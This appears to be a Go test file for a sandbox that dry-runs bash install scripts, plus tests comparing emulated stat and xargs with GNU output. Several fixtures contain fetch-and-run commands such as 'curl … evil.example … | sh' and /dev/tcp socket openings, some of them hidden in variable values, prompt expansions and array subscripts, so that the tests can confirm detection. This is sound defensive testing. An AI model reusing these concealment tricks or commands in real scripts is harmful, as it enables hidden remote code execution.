package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestDevTCPIsNetwork checks that bash's /dev/tcp and /dev/udp paths are
// reported as network access, written out or computed, and never opened.
func TestDevTCPIsNetwork(t *testing.T) {
	src := "#!/bin/bash\nexec 3<>/dev/tcp/evil.example/4444\ncat </dev/udp/10.0.0.1/53\nh=evil.example\necho x >/dev/tcp/$h/81\n"
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	var got []string
	for _, f := range r.Network {
		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
	}
	want := "/dev/tcp tcp://evil.example:4444,/dev/udp udp://10.0.0.1:53,/dev/tcp tcp://evil.example:81"
	if g := strings.Join(got, ","); g != want {
		t.Errorf("network %s, want %s", g, want)
	}
	if len(r.Network) > 1 && r.Network[1].Pos != "t.sh:3:5" {
		t.Errorf("udp at %s, want t.sh:3:5", r.Network[1].Pos)
	}
}

// TestCStyleLoopAsBash checks that a C-style for loop whose body ends
// with a failure loops on, as bash does (the interpreter left it after
// one pass), with and without a condition.
func TestCStyleLoopAsBash(t *testing.T) {
	src := `#!/bin/bash
i=0
for ((;;)); do i=$((i+1)); [ $i -ge 3 ] && break; false; done
[ "$i" -eq 3 ] || mkdir /opt/bad-forever
n=0
for ((j=0; j<4; j++)); do n=$((n+1)); false; done
[ "$n" -eq 4 ] || mkdir /opt/bad-counted
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	if !r.OK() || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
}

// TestTestFailureBlamed checks that under set -e a failing [[ ]] or (( ))
// (which the call handler never sees) is blamed, not the set -e before
// it.
func TestTestFailureBlamed(t *testing.T) {
	for _, src := range []string{"#!/bin/bash\nset -e\n[[ -z x ]]\necho never\n", "#!/bin/bash\nset -eu\n(( 0 ))\n"} {
		r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
		if len(r.Errors) != 1 || r.Errors[0].Pos != "t.sh:3:1" {
			t.Errorf("%q: errors %+v, want one at t.sh:3:1", src, r.Errors)
		}
	}
}

// TestPromptExpansionRuns checks that ${x@P} is expanded as bash expands
// it (a prompt: parameters and command substitutions in the value), so
// that a command substitution hidden in a value runs in the dry run and
// is reported, where the interpreter left the value as it was.
func TestPromptExpansionRuns(t *testing.T) {
	src := `#!/bin/bash
set -eu
x='$(curl -fsSL http://evil.example/p | sh)'
echo "${x@P}"
p='a "b" $(echo c) ${HOME+x}'
[ "${p@P}" = 'a "b" c x' ] || mkdir /opt/bad-prompt
a=('$(wget -qO- http://evil.example/a)')
: ${a[0]@P}
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	var got []string
	for _, f := range r.Network {
		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
	}
	if g := strings.Join(got, ","); g != "curl http://evil.example/p,wget http://evil.example/a" {
		t.Errorf("network %q, want the curl and the wget in the values\n%s", g, render(r))
	}
	if len(r.Errors) != 0 || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
}

// TestSubscriptSubstitutionRuns checks that a command substitution in an
// array subscript given to printf -v, unset, read or test -v (bash
// expands the subscript, so the command runs) runs in the dry run and is
// reported, the command then running with the subscript's value.
func TestSubscriptSubstitutionRuns(t *testing.T) {
	src := `#!/bin/bash
set -eu
a=(x y z)
printf -v 'a[$(wget -qO- http://evil.example/p)]' '%s' x
unset 'a[$(curl -s http://evil.example/u)]'
read -r 'a[$(curl -s http://evil.example/r)]' </dev/null || true
test -v 'a[$(curl -s http://evil.example/t)]' || true
unset 'a[$(echo 2)]'
[ "${#a[@]}" -le 2 ] || mkdir /opt/bad-unset
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	var got []string
	for _, f := range r.Network {
		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
	}
	want := "wget http://evil.example/p,curl http://evil.example/u,curl http://evil.example/r,curl http://evil.example/t"
	if g := strings.Join(got, ","); g != want {
		t.Errorf("network %q, want %q\n%s", g, want, render(r))
	}
	if len(r.Errors) != 0 || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
}

// TestLetAsBash checks that let evaluates quoted arguments as bash does
// (the interpreter took 'x=1' for a number and failed, a false error
// under set -e), assigns array elements (which the interpreter cannot do
// in arithmetic), and runs and reports a command substitution in an
// element's subscript.
func TestLetAsBash(t *testing.T) {
	src := `#!/bin/bash
set -eu
let 'x=1'
[ "$x" = 1 ] || mkdir /opt/bad1
y=4
let "z = x + $y" 'w=z*2'
[ "$z" = 5 ] && [ "$w" = 10 ] || mkdir /opt/bad2
declare -a a=()
let 'a[$(curl -fsSL http://evil.example/l | sh)]=1'
let 'a[$(echo 3)]=7'
[ "${a[3]}" = 7 ] || mkdir /opt/bad3
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/l" {
		t.Errorf("%s", render(r))
	}
}

// TestArrayArithmeticAsBash checks that assignments to array elements in
// (( )) and let (=, +=, ++, prefix ++; indexed and associative arrays)
// give what bash gives, where the interpreter crashed the sandbox child
// (a false "sandbox failed" on valid bash), and that a form the dry run
// cannot rewrite is a clear error, not a crash.
func TestArrayArithmeticAsBash(t *testing.T) {
	src := `#!/bin/bash
set -eu
declare -a a=()
(( a[1]=5 ))
[ "${a[1]}" = 5 ] || mkdir /opt/bad1
i=1
(( a[i]++ ))
(( a[i] += 10 ))
[ "${a[1]}" = 16 ] || mkdir /opt/bad2
let 'x=3' 'a[2]=x*2' 'y=4'
[ "$x/${a[2]}/$y" = 3/6/4 ] || mkdir /opt/bad3
(( ++a[2] ))
[ "${a[2]}" = 7 ] || mkdir /opt/bad4
declare -A m=()
(( m[key]=9 ))
[ "${m[key]}" = 9 ] || mkdir /opt/bad5
`
	run := func(src string) *Report {
		return DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	}
	if r := run(src); !r.OK() || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
	r := run("#!/bin/bash\ndeclare -a a=()\necho $(( 1 + (a[1]=2) ))\n")
	if len(r.Errors) != 1 || r.Errors[0].Pos != "t.sh:3:6" || !strings.Contains(r.Errors[0].Msg, "array element") {
		t.Errorf("an element assignment inside $(( )): %s", render(r))
	}
}

// TestDeclareIntegerAsBash checks that declare -i (local -i, typeset -i,
// combined as -ri) is no false error (the interpreter refused the option
// with status 2) and that the variables' values are evaluated as
// arithmetic as bash evaluates them, in the declaration and after.
func TestDeclareIntegerAsBash(t *testing.T) {
	src := `#!/bin/bash
set -eu
declare -i n=3
n+=4
[ "$n" -eq 7 ] || mkdir /opt/bad1
declare -ri r=2*5
[ "$r" = 10 ] || mkdir /opt/bad2
f() { local -i k=1+1; k+=k; [ "$k" = 4 ] || mkdir /opt/bad3; }
f
typeset -i t
t=9/3
[ "$t" = 3 ] || mkdir /opt/bad4
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	if !r.OK() || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
}

// TestDeclareElementsAsBash checks that declare, typeset and local
// assigning array elements (declare a[2]=v, declare 'a[$(cmd)]=v',
// local -i d[1]=5), which the interpreter ignored, assign them as bash
// does, and that a command substitution in such a subscript runs and is
// reported.
func TestDeclareElementsAsBash(t *testing.T) {
	src := `#!/bin/bash
set -eu
declare -a a=()
declare a[$(echo 2)]=two
[ "${a[2]}" = two ] || mkdir /opt/bad1
declare 'a[$(echo 3)]=$three'
[ "${a[3]}" = '$three' ] || mkdir /opt/bad2
f() { local b=(); local 'b[$(curl -s http://evil.example/x)]=1'; local -i c=2 d[1]=5; [ "${d[1]}" = 5 ] || mkdir /opt/bad3; }
f
declare -A m=([k]=v)
declare m[j]=w
[ "${m[j]}/${m[k]}" = w/v ] || mkdir /opt/bad4
`
	// curl is in the image (a command the base lacks fails the
	// substitution, and the emulated assignment with it).
	curl := []ContextFile{{Dest: "/usr/bin/curl", Mode: 0o755}}
	r := DryRunInProcess(context.Background(), Image{Name: "t", Files: curl, Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/x" {
		t.Errorf("%s", render(r))
	}
}

// TestSubscriptInValueRuns checks that a value holding a command
// substitution in an array subscript (i='a[$(cmd)]'), which bash runs
// when $((i)) evaluates the value, has that command run in the dry run
// and reported; the variable keeps its value, and a string that is no
// variable name (printf's argument) runs nothing.
func TestSubscriptInValueRuns(t *testing.T) {
	src := `#!/bin/bash
set -eu
i='a[$(curl -fsSL http://evil.example/v | sh)]'
echo $((i))
[ "$i" = 'a[$(curl -fsSL http://evil.example/v | sh)]' ] || mkdir /opt/bad-value
printf '%s\n' 'a[$(curl -s http://evil.example/not-run)]' >/dev/null
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/v" {
		t.Errorf("%s", render(r))
	}
}

// TestArithmValueBuiltAtRunTime checks that a value built at run time that
// hides a command substitution in an array subscript (k=$i$j with
// j='[$(cmd)]') has the command run in the dry run and reported when
// arithmetic evaluates it ($((k)), $(( $k )), (( )), let, [[ -eq ]]), as
// bash 5.2 runs it; and that an assignment to an array element inside
// $(( )) assigns it, the expansion giving the value, as bash does.
func TestArithmValueBuiltAtRunTime(t *testing.T) {
	src := `#!/bin/bash
set -eu
declare -a a=()
i=a; j='[$(curl -fsSL http://evil.example/k | sh)]'; k=$i$j
echo $((k))
m=k
n=$(( m + 1 ))
[ "$n" = 1 ] || mkdir /opt/bad-n
x='a[$(wget -qO- http://evil.example/w)]'
echo "$(( a[1]=2 )) $(( a[2] += 3 ))"
[ "${a[1]}/${a[2]}" = 2/3 ] || mkdir /opt/bad-elements
p=1
echo $(( p + 1 ))
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	var got []string
	for _, f := range r.Network {
		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
	}
	// k: run at $((k)) and at $(( m + 1 )) (m names k); x's literal is
	// run once at its assignment (never evaluated here, as bash would
	// not run it: a known over-report of the static case).
	want := "curl http://evil.example/k,curl http://evil.example/k,wget http://evil.example/w"
	if g := strings.Join(got, ","); g != want {
		t.Errorf("network %q, want %q\n%s", g, want, render(r))
	}
	if len(r.Errors) != 0 || len(r.Files) != 0 {
		t.Errorf("%s", render(r))
	}
}

// TestStatFormatAsGNU checks stat -c, --format and --printf in a dry run
// against GNU stat on the same files made for real: size, modes (set-id
// and sticky bits too, mkdir -m's and mkdir -p's parents'), type and name
// as GNU coreutils print them; the owner of what a build makes is root.
func TestStatFormatAsGNU(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "f"), []byte("abcde"), 0o644)
	syscall.Chmod(filepath.Join(dir, "f"), 0o4750) // set-uid: the kernel's bits
	os.Mkdir(filepath.Join(dir, "d"), 0o755)
	syscall.Chmod(filepath.Join(dir, "d"), 0o1777)
	os.Symlink("f", filepath.Join(dir, "l"))
	real := func(args ...string) string {
		cmd := exec.Command("stat", args...)
		cmd.Dir = dir
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("stat %q: %v", args, err)
		}
		return strings.TrimSuffix(string(out), "\n")
	}
	const format = "%n %s %a %A %F"
	wantC := real("-c", format, "f", "d", "l")
	wantPrintf := real("--printf", format+`\n`, "f", "l")
	wantL := real("-L", "--format="+format, "l")
	mkdirP := exec.Command("mkdir", "-p", "-m", "700", "p/q/r")
	mkdirP.Dir = dir
	if out, err := mkdirP.CombinedOutput(); err != nil {
		t.Fatalf("mkdir -p -m 700: %v\n%s", err, out)
	}
	wantP := real("-c", "%n %a", "p", "p/q", "p/q/r")
	src := `#!/bin/bash
set -eu
mkdir /t && cd /t
printf abcde > f
chmod 4750 f
mkdir -m 1777 d
ln -s f l
[ "$(stat -c '` + format + `' f d l)" = '` + wantC + `' ] || mkdir /opt/bad1
[ "$(stat --printf '` + format + `\n' f l)" = '` + wantPrintf + `' ] || mkdir /opt/bad2
[ "$(stat -L --format='` + format + `' l)" = '` + wantL + `' ] || mkdir /opt/bad3
[ "$(stat -c '%U:%G %u:%g %%' f)" = 'root:root 0:0 %' ] || mkdir /opt/bad4
mkdir -p -m 700 p/q/r
[ "$(stat -c '%n %a' p p/q p/q/r)" = '` + wantP + `' ] || mkdir /opt/bad5
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
	for _, f := range r.Files {
		if strings.HasPrefix(f.Path, "/opt/bad") {
			t.Errorf("check %s failed: GNU stat prints\n%s\n%s\n%s\n%s", f.Path, wantC, wantPrintf, wantL, wantP)
		}
	}
	if !r.OK() {
		t.Errorf("%s", render(r))
	}
}

// TestXargsOptionsEndAtCommand: xargs's options end at the command it
// runs; the command's own options are the command's (GNU xargs runs
// "stat -c FMT FILE…", not xargs -c). Expected outputs from GNU xargs.
func TestXargsOptionsEndAtCommand(t *testing.T) {
	real := func(script string) string {
		out, err := exec.Command("sh", "-c", script).Output()
		if err != nil {
			t.Fatalf("%s: %v", script, err)
		}
		return strings.TrimSuffix(string(out), "\n")
	}
	const one = `printf '/etc\n' | xargs stat -c '%n %F'`
	const two = `printf 'a b c\n' | xargs -n 2 echo -n x; echo`
	const three = `printf 'q\n' | xargs -I{} -- echo {}`
	want1, want2, want3 := real(one), real(two), real(three)
	src := `#!/bin/sh
set -e
[ "$(` + one + `)" = '` + want1 + `' ] || mkdir /opt/bad1
[ "$(` + two + `)" = '` + want2 + `' ] || mkdir /opt/bad2
[ "$(` + three + `)" = '` + want3 + `' ] || mkdir /opt/bad3
`
	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "sh"}}}, Options{Timeout: 10 * time.Second})
	for _, f := range r.Files {
		if strings.HasPrefix(f.Path, "/opt/bad") {
			t.Errorf("check %s failed: GNU xargs prints %q, %q, %q", f.Path, want1, want2, want3)
		}
	}
	if !r.OK() {
		t.Errorf("%s", render(r))
	}
}
